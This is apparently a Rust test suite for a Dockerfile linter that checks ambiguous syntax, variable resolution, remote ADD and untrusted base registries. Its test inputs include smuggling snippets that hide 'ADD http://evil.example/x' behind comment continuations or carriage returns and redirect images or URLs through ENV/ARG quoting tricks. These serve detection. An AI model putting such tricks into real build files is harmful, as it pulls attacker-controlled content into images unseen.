//! Stories about whole Dockerfiles.

use crate::dockerfile::rules::complaints_about;
use crate::dockerfile::{Base, DOCKERFILE_BYTES_MAX, check};
use proptest::prelude::*;

const DIGEST: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

#[test]
fn a_usual_file_is_read_with_all_its_images() {
    let text = format!(
        "# escape=\\\nARG BASE=registry.example/base/python\nFROM ${{BASE}}:3@{DIGEST} AS Build\r\nWORKDIR /src\nCOPY . .\nRUN pip install \\\n# a remark\n    -r requirements.txt \\\n\n    && true\nfrom registry.example/base/slim@{DIGEST}\ncopy --from=build --chown=1:1 /src /src\nHEALTHCHECK --interval=5s CMD true\nUSER 1000\nCMD [\"python\"]\n"
    );
    let known = ["registry.example/base/*".to_owned()];
    let read = check("Dockerfile", text.as_bytes(), &known).unwrap();
    let images: Vec<&str> = read.images.iter().map(|i| i.repository.as_str()).collect();
    assert_eq!(
        images,
        ["registry.example/base/python", "registry.example/base/slim"]
    );
    assert_eq!(read.stages[0].name.as_deref(), Some("build"));
    assert!(matches!(read.stages[1].base, Base::Image(_)));
}

#[test]
fn what_builders_read_differently_is_refused() {
    // An older builder sees the RUN end at the indented comment, and then an ADD.
    insta::assert_snapshot!(complaints_about("FROM scratch\nRUN true \\\n  # a remark\nADD http://evil.example/x /x\n"), @r"
    error[ambiguous-syntax]: not every builder reads this line as part of the instruction above
      --> Dockerfile:4:1
       |
     4 | ADD http://evil.example/x /x
       | ^^^ an instruction, or not?
       = help: begin comments between continued lines in the first column
       = more: docs/language.md#ambiguous-syntax
    ");
    for text in [
        "FROM scratch\nRUN echo \\\\\nADD http://evil.example/x /x\n",
        "FROM scratch\nRUN a\u{a0}b\n",
        "FROM scratch\nRUN a\rADD http://evil.example/x /x\n",
        "FROM scratch\nRUN a\u{b}b\n",
        "FROM scratch\nCOPY --from=\"scratch\" /a /b\n",
    ] {
        assert!(
            complaints_about(text).contains("ambiguous-syntax"),
            "{text:?}"
        );
    }
    assert_eq!(
        complaints_about("FROM scratch\nRUN a \\\n  # fine\n  && b\n"),
        ""
    );
}

#[test]
fn a_name_is_never_pieced_together_unseen() {
    for text in [
        "FROM $BASE\n",
        "ARG BASE\nFROM $BASE\n",
        "ARG A=evil.example\nFROM ${A}/x\n",
        "FR\\\nOM evil.example/x\n",
        "FROM scratch AS a\nFROM A-later\nFROM scratch AS a-later\n",
        "FROM --platform=linux/amd64 evil.example/x\n",
        "FROM scratch AS a\nRUN --mount=from=evil.example/x,target=/x true\n",
        "FROM scratch AS a\nCOPY --from=a /x /x\n",
        "FROM scratch AS a\nFROM scratch AS A\n",
        "FROM scratch evil\n",
        "RUN true\n",
        "",
        "{\"syntax\":\"x\"}\n",
    ] {
        assert_ne!(complaints_about(text), "", "{text}");
    }
}

#[test]
fn what_sets_a_variable_is_read_as_the_builder_reads_it() {
    let known = "registry.example/base/x@<digest>";
    for (wanted, text) in [
        // An ARG of a stage comes after its ENVs, also where it has its value from before FROM.
        (
            "unresolved-variable",
            "FROM scratch\nENV V=ok\nARG V=http://127.0.0.1/x\nADD $V /x\n".to_owned(),
        ),
        (
            "unresolved-variable",
            "ARG V=http://127.0.0.1/x\nFROM scratch\nENV V=ok\nARG V\nADD $V /x\n".to_owned(),
        ),
        (
            "unresolved-variable",
            "FROM scratch AS a\nENV V=ok\nARG W=1 V=http://127.0.0.1/x\nFROM a\nADD $V /x\n"
                .to_owned(),
        ),
        // Names are filled in and lose their quotes.
        (
            "ambiguous-syntax",
            "FROM scratch\nENV N=V V=ok\nENV $N=http://127.0.0.1/x\nADD $V /x\n".to_owned(),
        ),
        (
            "ambiguous-syntax",
            "FROM scratch\nENV V=ok\nENV \"V\"=http://127.0.0.1/x\nADD $V /x\n".to_owned(),
        ),
        (
            "ambiguous-syntax",
            "FROM scratch\nENV V=ok\nENV \\V http://127.0.0.1/x\nADD $V /x\n".to_owned(),
        ),
        (
            "ambiguous-syntax",
            "FROM scratch\nENV V=ok\nARG 'V'=http://127.0.0.1/x\nADD $V /x\n".to_owned(),
        ),
        // What stands in quotes or after a backslash is a value and sets nothing.
        (
            "unknown-base-registry",
            format!("ARG A=evil.example/x\nARG Z=\"y A={known} z\"\nFROM $A\n"),
        ),
        (
            "unknown-base-registry",
            format!("ARG A=evil.example/x\nARG Z=y\\ A={known}\nFROM $A\n"),
        ),
        (
            "remote-add",
            "FROM scratch\nENV V=http://127.0.0.1/x\nENV Z='y V=ok z'\nADD $V /x\n".to_owned(),
        ),
        (
            "ambiguous-syntax",
            format!("ARG A=evil.example/x\nARG Z=\"y A={known}\nFROM $A\n"),
        ),
        // A name ends where the builder sees its end.
        (
            "unresolved-variable",
            "FROM scratch\nENV 1a=ok\nADD $1a /x\n".to_owned(),
        ),
        (
            "unresolved-variable",
            "FROM scratch\nENV A=ok\nADD $Aé /x\n".to_owned(),
        ),
    ] {
        let said = complaints_about(&text);
        assert!(said.contains(wanted), "{text}{said}");
    }
}

#[test]
fn usual_variables_are_accepted() {
    let base = "registry.example/base/x@<digest>";
    for text in [
        "FROM scratch\nARG DEBIAN_FRONTEND=noninteractive\nARG VERSION=\"1.2\" OPTS='-a -b'\nENV PATH=\"/x:$PATH\"\nENV A=1 B=2\nENV C some words\nENV D=it\\'s es.port=9200\nRUN get $VERSION\nADD $A-$B.tar /x\n".to_owned(),
        format!("ARG FLAGS=\"-a -b\"\nARG BASE=\"{base}\" B=ok\nFROM $BASE AS one\nARG FLAGS\n"),
        format!("ARG REGISTRY=registry.example\nARG BASE='registry.example/base/x@<digest>'\nFROM ${{BASE}}\nARG REGISTRY\nENV REGISTRY=$REGISTRY\nFROM {base}\n"),
    ] {
        assert_eq!(complaints_about(&text), "", "{text}");
    }
}

#[test]
fn a_file_that_is_too_large_or_no_text_is_one_complaint() {
    let known: [String; 0] = [];
    let large = vec![b'#'; DOCKERFILE_BYTES_MAX + 1];
    let lines = "RUN a\n".repeat(1001);
    for bytes in [large.as_slice(), b"FROM \xff", lines.as_bytes()] {
        assert_eq!(check("Dockerfile", bytes, &known).unwrap_err().len(), 1);
    }
}

proptest! {
    #[test]
    fn no_bytes_make_the_reader_panic(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let _ = check("Dockerfile", &bytes, &[]);
    }

    #[test]
    fn no_words_make_the_reader_panic(words in proptest::collection::vec(
        prop_oneof![
            Just("FROM"), Just("ADD"), Just("ENV"), Just("ARG"), Just("COPY"), Just("RUN"),
            Just("--from="), Just("--mount=type=bind,from="), Just("$"), Just("${"), Just("}"),
            Just(":-"), Just("a=b"), Just("http://"), Just("\\\n"), Just("\n"), Just(" "),
            Just("#"), Just("\""), Just("["), Just("é"), Just("\u{feff}"), Just("AS"), Just("<<E"),
        ], 0..60)) {
        let _ = check("Dockerfile", words.concat().as_bytes(), &[]);
    }
}

#[test]
fn the_demos_own_dockerfile_is_accepted() {
    let text = include_str!("../../../xtask/demo-repo/Dockerfile")
        .replace(
            "@PYTHON_DEV@",
            &format!("127.0.0.1:5000/base/python-dev@{DIGEST}"),
        )
        .replace("@PYTHON@", &format!("127.0.0.1:5000/base/python@{DIGEST}"));
    let known = ["127.0.0.1:5000/base/*".to_owned()];
    let read = check("Dockerfile", text.as_bytes(), &known).unwrap();
    assert_eq!(read.images.len(), 2);
}
